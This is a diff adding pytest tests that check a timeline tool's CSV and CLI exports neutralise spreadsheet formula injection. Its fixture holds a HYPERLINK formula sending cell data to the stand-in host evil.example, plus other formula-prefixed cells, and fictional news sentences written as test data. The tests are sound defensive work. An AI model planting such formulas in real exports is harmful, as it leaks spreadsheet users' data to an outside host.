@@ -411,3 +411,79 @@ def test_without_a_browser_image_buttons_explain_and_html_still_works(app, monke
     buttons = {b.proto.label: b.proto.disabled for b in at.get("download_button")}
     assert buttons["PNG"] and buttons["SVG"] and buttons["PDF"] and not buttons["HTML"]
     assert not buttons["HTML report"] and not buttons["TimelineJS"]
+
+
+# ------------------------------------------------------------------ spreadsheet formulas in CSV exports
+
+FORMULA_ARTICLE = """date 2025-01-24
+
+=HYPERLINK("http://evil.example/?leak="&A1,"Putin said on Jan. 24 that Russia is ready for talks.")
+
++Vladimir Putin met Donald Trump on Jan. 20, 2025 in Moscow, officials said.
+
+-Dmitry Peskov told reporters on Jan. 22 that the meeting went well.
+
+@SUM(1+1) Sergey Lavrov said on Jan. 23 that talks would go ahead.
+
+\t=1+2 Putin said on Jan. 21 that he spoke with Trump.
+"""
+
+
+@pytest.fixture(scope="module")
+def formula_folder(tmp_path_factory):
+    folder = tmp_path_factory.mktemp("formulas")
+    (folder / "evil.txt").write_text(FORMULA_ARTICLE, encoding="utf-8")
+    (folder / "sources.csv").write_text('file,published,outlet,url,title\nevil.txt,2025-01-24,@outlet,,'
+                                        '"=HYPERLINK(""http://evil.example"",""x"")"\n', encoding="utf-8")
+    return folder
+
+
+def _formula_cells(raw: bytes) -> list[str]:
+    """The cells of a CSV file that a spreadsheet would run as formulas."""
+    import csv as csvmod
+
+    rows = list(csvmod.reader(io.StringIO(raw.decode("utf-8-sig"))))
+    return [c for row in rows for c in row if re.match(r"^[\t\r]|^\s*[=+\-@]", c)
+            and not re.fullmatch(r"-?\d+(\.\d+)?", c.strip())]
+
+
+def test_csv_exports_neutralise_spreadsheet_formulas(formula_folder, monkeypatch, tmp_path):
+    monkeypatch.setenv("TIMELINE_CACHE", str(tmp_path / "cache"))
+    data = corpus_data(read_corpus(formula_folder), formula_folder)
+    v = view(data)
+    assert len(v.events) >= 3
+    for fmt in ("csv", "mentions"):
+        raw = export.data_bytes(v, fmt)
+        assert _formula_cells(raw) == [], fmt
+        text = raw.decode("utf-8-sig")
+        assert "'=HYPERLINK(" in text and "'@outlet" in text
+    # JSON keeps the text as it is
+    js = json.loads(export.data_bytes(v, "json"))
+    assert any(t.startswith("=HYPERLINK(") for e in js["events"] for t in e["titles"])
+    pq = pd.read_parquet(io.BytesIO(export.data_bytes(v, "parquet")))
+    assert any(str(t).startswith("=HYPERLINK(") for ts in pq["titles"] for t in ts)
+
+
+def test_csv_cell_keeps_numbers_and_dates():
+    from timeline.views.text import csv_cell
+
+    for kept in ("-3", "+4", "-1.5e3", "2025-01-24", "plain text", "a=b", "", None, 3, -3.5):
+        assert csv_cell(kept) == kept
+    for bad in ("=1+1", "+A1", "-A1+1", "@SUM(A1)", "\tx", "\rx", "  =1+1", " -2+3", "-3 =cmd"):
+        assert csv_cell(bad) == "'" + bad
+
+
+def test_cli_csv_outputs_neutralise_spreadsheet_formulas(formula_folder, tmp_path):
+    env = {**os.environ, "TIMELINE_CACHE": str(tmp_path / "cache")}
+    events, keydates = tmp_path / "events.csv", tmp_path / "keydates.csv"
+    r = run_cli("extract", str(formula_folder), "--out", str(events), env=env)
+    assert r.returncode == 0, r.stderr
+    assert _formula_cells(events.read_bytes()) == []
+    assert "'=HYPERLINK(" in events.read_text(encoding="utf-8") or "'+Vladimir" in events.read_text(encoding="utf-8")
+    jl = tmp_path / "events.jsonl"
+    assert run_cli("extract", str(formula_folder), "--out", str(jl), env=env).returncode == 0
+    assert any(json.loads(line)["mentions"][0]["sentence"].startswith(("=", "+", "-", "@"))
+               for line in jl.read_text(encoding="utf-8").splitlines())
+    r = run_cli("keydates", str(formula_folder), "--k", "3", "--out", str(keydates), env=env)
+    assert r.returncode == 0, r.stderr
+    assert _formula_cells(keydates.read_bytes()) == []
